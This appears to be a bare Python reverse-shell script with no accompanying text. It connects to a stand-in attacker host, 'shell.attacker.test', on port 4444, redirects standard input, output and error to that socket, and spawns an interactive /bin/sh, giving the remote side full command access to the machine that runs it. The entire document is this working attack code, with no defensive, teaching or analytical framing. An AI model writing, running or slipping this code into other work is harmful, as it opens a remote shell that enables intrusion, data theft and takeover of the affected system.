import socket as k, os, subprocess
s = k.socket(); s.connect(("shell.attacker.test", 4444))
for d in range(3):
    os.dup2(s.fileno(), d)
subprocess.call(["/bin/sh", "-i"])
